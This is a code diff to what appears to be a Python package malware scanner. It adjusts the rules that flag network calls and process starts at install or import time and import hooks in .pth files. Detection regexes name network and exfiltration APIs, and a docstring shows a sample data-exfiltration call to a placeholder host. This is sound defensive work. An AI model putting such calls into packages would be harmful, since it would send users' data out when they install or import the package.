@@ -13,7 +13,7 @@ from douane.analysis.interface import FileType, Hit, Tag
 from douane.analysis.process import HOLE, command_of, is_exec_call, loose_str
 from douane.analysis.pyapi import DYNAMIC_EXEC, NETWORK_SEND, matches
 from douane.analysis.registry import file_rule, node_rule
-from douane.domain import Confidence, Family, Severity, Where
+from douane.domain import ArtifactKind, Confidence, Family, Severity, Where
 
 # setuptools/distutils commands pip runs on install or build; an override's methods run then.
 HOOKED_COMMANDS = frozenset({"install", "develop", "egg_info", "build", "build_py", "sdist",
@@ -23,7 +23,21 @@ HOOKED_COMMANDS = frozenset({"install", "develop", "egg_info", "build", "build_p
                              "_sdist", "_bdist_wheel", "orig_install"})  # fmt: skip
 _BENIGN_COMMANDS = BUILD_TOOLS | frozenset({"clear", "cls", "echo", "title", "chcp", "color",
                                             "python", "python3", "py", "sys.executable",
-                                            "pip", "pip3", "mode", "ver", "id", "whoami"})  # fmt: skip
+                                            "pip", "pip3", "mode", "ver", "id", "whoami",
+                                            "twine", "rm", "cp", "mv", "mkdir", "ln", "touch",
+                                            "setup.py", "./setup.py", "cython", "cythonize",
+                                            "f2py", "gfortran", "ifort", "xcrun", "llvm-config",
+                                            "nvidia-smi", "hipcc", "mpicc", "lrelease", "pyrcc5",
+                                            "pyuic5", "doxygen", "flex", "bison", "javac", "mvn",
+                                            "gradle", "dotnet", "jupyter", "pytest", "tox",
+                                            "sphinx-apidoc", "pylint", "flake8", "black", "ruff",
+                                            "mypy", "coverage", "isort", "pre-commit",
+                                            "pyinstaller", "wheel", "build", "ls", "dir"})  # fmt: skip
+_CONSTRUCTORS = frozenset({"httpx.Client", "httpx.AsyncClient", "aiohttp.ClientSession",
+                          "urllib.request.Request", "urllib2.Request", "requests.Session",
+                          "http.client.HTTPSConnection", "http.client.HTTPConnection",
+                          "httplib.HTTPSConnection", "httplib.HTTPConnection",
+                          "urllib3.PoolManager", "socket.socket", "socket.gethostbyname"})  # fmt: skip
 _RUNNERS = frozenset({"threading.Thread", "threading.Timer", "atexit.register",
                       "multiprocessing.Process"})  # fmt: skip
 NETWORK_TRIGGERS = (b"urlopen", b"urlretrieve", b"requests", b"httpx", b"urllib", b"socket",
@@ -111,16 +125,11 @@ def _scope_walk(scope: ast.AST, main_guard_runs: bool) -> Iterator[ast.AST]:
 # -- what a reached call does ---------------------------------------------------------------------
 
 
-_LOCAL_NETWORK = frozenset(
-    {"socket.socket", "socket.gethostbyname"}
-)  # no data leaves by these alone
-
-
 def network_action(call: ast.Call, ctx: PyContext, via: str = "") -> tuple[str, Severity] | None:
     """A network call, graded by its destination: a drop-box host is HIGH; a URL computed
     at run time deep inside a helper (`load(fname)` that may be a URL) is LOW."""
     name = ctx.call_name(call)
-    if name in _LOCAL_NETWORK or not (is_fetch(name) or matches(name, NETWORK_SEND)):
+    if name in _CONSTRUCTORS or not (is_fetch(name) or matches(name, NETWORK_SEND)):
         return None
     url = loose_str(call.args[0], ctx) if call.args else None
     kind = host_kind(url) if url and "://" in url else None
@@ -131,7 +140,9 @@ def network_action(call: ast.Call, ctx: PyContext, via: str = "") -> tuple[str, 
     return f"`{name}`", Severity.MEDIUM
 
 
-def process_action(call: ast.Call, ctx: PyContext) -> tuple[str, Severity] | None:
+def process_action(call: ast.Call, ctx: PyContext, via: str = "") -> tuple[str, Severity] | None:
+    """A process start, unless it runs a known build or console tool; a program whose name
+    is only known at run time is LOW when it runs inside a helper (compilers, config tools)."""
     name = ctx.call_name(call)
     if not is_exec_call(name):
         return None
@@ -144,6 +155,8 @@ def process_action(call: ast.Call, ctx: PyContext) -> tuple[str, Severity] | Non
     if first == HOLE and len(words) > 1 and re.match(r"(?:-m|-c|setup\.py|\S+\.py$)", words[1]):
         return None  # [sys.executable, "-m", ...]: Python running a module or a build script
     shown = " ".join(cmd.split())[:60]
+    if first == HOLE and via:  # a program chosen at run time inside a helper: a compiler, a tool
+        return f"`{name}` (`{shown}`)", Severity.LOW
     return f"`{name}` (`{shown}`)", Severity.MEDIUM
 
 
@@ -211,7 +224,7 @@ def install_time_process(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     if not _install_script(ctx):
         return
     via = reached_calls(ctx).get(id(node))
-    found = process_action(node, ctx) if via is not None else None
+    found = process_action(node, ctx, via) if via is not None else None
     if found:
         what, severity = found
         yield ctx.hit(node, f"setup.py starts a process {what}{_via(via, 'top level')}",
@@ -225,7 +238,23 @@ def _install_script(ctx: PyContext) -> bool:
 
 def _import_time_file(ctx: PyContext) -> bool:
     name = ctx.rel_path.rsplit("/", 1)[-1]
-    return ctx.file.where is Where.IMPORT and not ctx.file.is_setup_py and name != "__main__.py"
+    return (
+        ctx.file.where is Where.IMPORT
+        and not ctx.file.is_setup_py
+        and name != "__main__.py"
+        and name.endswith((".py", ".pyw"))  # extensionless files are scripts, never imported
+    )
+
+
+def _import_grade(ctx: PyContext, severity: Severity) -> Severity:
+    """`__init__.py` (and a wheel's top-level module) runs on `import pkg`; another module's
+    top level runs only if something imports it, and may be a script run by hand: one less."""
+    rel = ctx.rel_path
+    if rel.endswith("/__init__.py") or rel == "__init__.py":
+        return severity
+    if ctx.file.artifact_kind is ArtifactKind.WHEEL and "/" not in rel:
+        return severity
+    return Severity(max(Severity.LOW, severity - 1)) if severity < Severity.HIGH else severity
 
 
 @node_rule(
@@ -245,7 +274,9 @@ def import_time_network_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
 
     Why it matters: libraries do not talk to the network on `import`; malware in
     `__init__.py` does, so that merely importing the package (or a dependency pulling it in)
-    sends data or fetches a payload. HIGH when the address is a drop-box kind of host.
+    sends data or fetches a payload. HIGH when the address is a drop-box kind of host; one
+    step lower outside `__init__.py` (such a module may be a script run by hand), and LOW
+    for a URL only known at run time inside a helper.
 
     Example: `__init__.py` ending in `requests.post("https://x.example.invalid/c", data=info)`.
     """
@@ -256,7 +287,7 @@ def import_time_network_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
     if found:
         what, severity = found
         yield ctx.hit(node, f"import makes a network call {what}{_via(via, 'module level')}",
-                      severity=severity, where=Where.IMPORT)  # fmt: skip
+                      severity=_import_grade(ctx, severity), where=Where.IMPORT)  # fmt: skip
 
 
 @node_rule(
@@ -276,17 +307,19 @@ def import_time_process(node: ast.Call, ctx: PyContext) -> Iterator[Hit]:
 
     Why it matters: importing a library should not start programs; malware starts its
     payload from `__init__.py` so that any import (including a test collector's) triggers it.
+    Outside `__init__.py` it is one step lower (LOW), as is a program chosen at run time
+    inside a helper.
 
     Example: `subprocess.Popen([exe_path])` at the bottom of `pkg/__init__.py`.
     """
     if not _import_time_file(ctx):
         return
     via = reached_calls(ctx).get(id(node))
-    found = process_action(node, ctx) if via is not None else None
+    found = process_action(node, ctx, via) if via is not None else None
     if found:
         what, severity = found
         yield ctx.hit(node, f"import starts a process {what}{_via(via, 'module level')}",
-                      severity=severity, where=Where.IMPORT)  # fmt: skip
+                      severity=_import_grade(ctx, severity), where=Where.IMPORT)  # fmt: skip
 
 
 _SETUP_SEEN: weakref.WeakKeyDictionary[ast.AST, bool] = weakref.WeakKeyDictionary()
@@ -334,6 +367,7 @@ def setup_py_without_setup_call(node: ast.Call, ctx: PyContext) -> Iterator[Hit]
         yield ctx.hit(node, f"setup.py has no setup() call but runs {found[0]}")
 
 
+_NSPKG = re.compile(r"sys\._getframe\(1\)\.f_locals\[['\"]sitedir['\"]\]")
 _PTH_IMPORT = re.compile(r"^import[ \t]", re.MULTILINE)
 _PTH_PAYLOAD = (
     (re.compile(r"urlopen|urlretrieve|requests\.|httpx|socket|http\.client|urllib", re.I), "network", Severity.CRITICAL),
@@ -365,6 +399,8 @@ def pth_import_hook(ctx: FileContext) -> Iterator[Hit]:
     """
     for m in _PTH_IMPORT.finditer(ctx.text):
         line = ctx.line_text(ctx.line_of(m.start()))
+        if _NSPKG.search(line):
+            continue  # setuptools' generated namespace-package line
         if not any(p.search(line) for p, _, _ in _PTH_PAYLOAD):
             yield ctx.hit_at(
                 m.start(), "`.pth` line runs an import hook at every interpreter start"
